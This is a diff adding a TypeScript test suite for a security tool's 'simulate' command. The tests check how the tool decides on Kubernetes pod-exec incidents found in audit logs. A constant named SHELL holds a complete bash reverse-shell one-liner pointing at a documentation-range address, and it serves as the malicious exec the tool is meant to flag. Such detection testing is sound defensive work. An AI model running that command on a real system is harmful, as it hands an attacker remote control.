@@ -1,0 +1,93 @@
+import { strict as assert } from 'node:assert';
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { main } from '../../cli/main.ts';
+import { auditEntry } from '../../local/scenarios/audit-entry.ts';
+import { captured } from './kit.ts';
+
+const execEntry = (name: string, command: string, at: string, namespace = 'shop') =>
+  auditEntry({ at, verb: 'create', resource: 'pods', subresource: 'exec', namespace, name, command });
+const SHELL = 'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';
+
+describe('firebreak simulate', () => {
+  let cwd = '';
+  before(async () => {
+    cwd = await mkdtemp(join(tmpdir(), 'firebreak simulate '));
+    await writeFile(join(cwd, 'strict.yaml'), 'mode: act\nmatrix: { high: [snapshot, snapshot, snapshot, isolate] }\n');
+  });
+  after(() => rm(cwd, { recursive: true }));
+
+  const simulated = async (payloads: readonly unknown[], argv: string[] = [], isTTY = false) => {
+    const lines = payloads.map((one) => (typeof one === 'string' ? one : JSON.stringify(one)));
+    await writeFile(join(cwd, 'events.ndjson'), `${lines.join('\n')}\n`);
+    const { io, said } = captured({ cwd, isTTY, env: { NO_COLOR: '1' } });
+    const code = await main(['simulate', 'events.ndjson', ...argv], io);
+    return { code, ...(await said()) };
+  };
+  const read = (out: string) =>
+    out
+      .trimEnd()
+      .split('\n')
+      .map((line) => JSON.parse(line));
+
+  it('says what would have been decided, one line for each incident', async () => {
+    const { code, out } = await simulated([
+      execEntry('cart-1', SHELL, '2026-11-03T03:00:00Z'),
+      execEntry('cart-1', SHELL, '2026-11-03T03:05:00Z'),
+      execEntry('cart-2', 'ls', '2026-11-03T03:06:00Z'),
+    ]);
+    assert.equal(code, 0);
+    const [first, second, ...none] = read(out);
+    assert.deepEqual(none, []);
+    assert.deepEqual(
+      [first.target.pod, first.severity, first.verdict, first.tier],
+      ['cart-1', 'high', 'act', 'quarantine'],
+    );
+    assert.ok(first.lines.includes(1) && first.lines.includes(2));
+    assert.ok(first.because.some((line: string) => line.includes('in the matrix')));
+    assert.equal(second.target.pod, 'cart-2');
+  });
+
+  it('knows protection from the names', async () => {
+    const inside = execEntry('dns-1', SHELL, '2026-11-03T03:00:00Z', 'kube-system');
+    const [one] = read((await simulated([inside])).out);
+    assert.equal(one.tier, 'snapshot');
+  });
+
+  it('shows how another policy differs', async () => {
+    const events = [
+      execEntry('cart-1', SHELL, '2026-11-03T03:00:00Z'),
+      execEntry('cart-2', 'ls', '2026-11-03T03:06:00Z'),
+    ];
+    const [first, second] = read((await simulated(events, ['--against', 'strict.yaml'])).out);
+    assert.deepEqual([first.differs, first.tier, first.against.tier], [true, 'quarantine', 'isolate']);
+    assert.equal(second.differs, false);
+    const { out } = await simulated(events, ['--against', 'strict.yaml'], true);
+    assert.match(out, /^SEEN FROM +TARGET +SEVERITY +RULES +DECIDED +AGAINST$/m);
+    assert.match(out, /pod shop\/cart-1 .* quarantine +isolate$/m);
+    assert.match(out, /^1 of 2 incidents are decided otherwise$/m);
+  });
+
+  it('is a table on a terminal, and opens another incident after the window', async () => {
+    const { out } = await simulated(
+      [execEntry('cart-2', 'ls', '2026-11-03T03:00:00Z'), execEntry('cart-2', 'ls', '2026-11-03T05:00:00Z')],
+      [],
+      true,
+    );
+    assert.match(out, /^SEEN FROM +TARGET +SEVERITY +RULES +DECIDED$/m);
+    assert.match(out, /^2 incidents$/m);
+  });
+
+  it('tells an unreadable line by its number, and what may not be claimed, and goes on', async () => {
+    const quiet = join(cwd, 'quiet.yaml');
+    await writeFile(quiet, 'mode: act\nsources: { gke-audit-log: { max: { severity: low } } }\n');
+    const { code, out, err } = await simulated(['{nope', execEntry('cart-1', SHELL, '2026-11-03T03:00:00Z')]);
+    assert.equal(code, 1);
+    assert.match(err, /^line 1: not JSON$/m);
+    assert.equal(read(out).length, 1);
+    const refused = await simulated([execEntry('cart-1', SHELL, '2026-11-03T03:00:00Z')], ['--policy', 'quiet.yaml']);
+    assert.equal(refused.out, '');
+    assert.match(refused.err, /^line 1: not believed: severity high is above the low/m);
+  });
+});
